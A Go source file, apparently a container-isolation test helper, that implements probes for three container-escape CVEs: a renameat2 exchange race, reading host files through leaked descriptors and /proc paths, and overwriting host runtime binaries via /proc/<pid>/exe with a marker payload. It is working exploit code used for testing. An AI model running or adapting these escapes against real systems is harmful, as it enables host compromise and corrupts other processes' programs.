package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// exchange exchanges two names as fast as it can (CVE-2021-25741).
func exchange(args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("exchange: want two names, got %d", len(args))
	}
	fmt.Println("exchanging")
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, args[0], unix.AT_FDCWD, args[1], unix.RENAME_EXCHANGE); err != nil {
			return fmt.Errorf("renameat2: %w", err)
		}
	}
}

// where tells of its working directory, and looks for a file of the machine from
// there, from its descriptors and from its root (CVE-2024-21626).
func where(args []string) error {
	dir, err := unix.Getcwd(make([]byte, 4096))
	fmt.Println("cwd", dir, result(err))
	up := strings.Repeat("../", 40)
	places := []string{up, "/" + up, "/proc/self/cwd/" + up, "/proc/1/cwd/" + up, "/proc/1/root/" + up}
	fds, _ := filepath.Glob("/proc/self/fd/*")
	for _, fd := range fds {
		places = append(places, fd+"/"+up, fd)
	}
	for _, place := range places {
		for _, file := range args {
			if content, err := os.ReadFile(place + file); err == nil {
				fmt.Printf("escaped through %s: %s\n", place, content)
			}
		}
	}
	return nil
}

// hunt writes to the programs of processes that are not of this image
// (CVE-2019-5736): first a descriptor of the program, then a new one for writing from
// that, again and again, for the program cannot be written to while it runs.
func hunt(args []string) error {
	flags := flag.NewFlagSet("hunt", flag.ContinueOnError)
	length := flags.Duration("for", 10*time.Second, "how long")
	if err := flags.Parse(args); err != nil {
		return err
	}
	fmt.Println("hunting")
	found := map[string]int{} // descriptors of programs, by what they are
	tries, foreign := 0, 0
	for end := time.Now().Add(*length); time.Now().Before(end); {
		pids, _ := filepath.Glob("/proc/[0-9]*")
		for _, dir := range pids {
			if dir == fmt.Sprintf("/proc/%d", os.Getpid()) {
				continue
			}
			exe := dir + "/exe"
			name, err := os.Readlink(exe)
			if err != nil || strings.HasPrefix(name, "/bin/busybox") || name == "/attack" {
				continue
			}
			foreign++
			fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var stat unix.Stat_t
			unix.Fstat(fd, &stat)
			key := fmt.Sprintf("%d:%d %s", stat.Dev, stat.Ino, name)
			if _, known := found[key]; known {
				unix.Close(fd)
				continue
			}
			found[key] = fd
			fmt.Println("program", key)
		}
		for key, fd := range found {
			for _, mode := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC} {
				tries++
				w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), mode, 0)
				if err != nil {
					continue
				}
				n, err := unix.Pwrite(w, []byte("#!/attack escaped\n"), 0)
				fmt.Printf("opened %s for writing: wrote %d, %s\n", key, n, result(err))
				unix.Close(w)
			}
		}
		time.Sleep(100 * time.Microsecond)
	}
	fmt.Println("tries", tries, "foreign", foreign)
	return nil
}
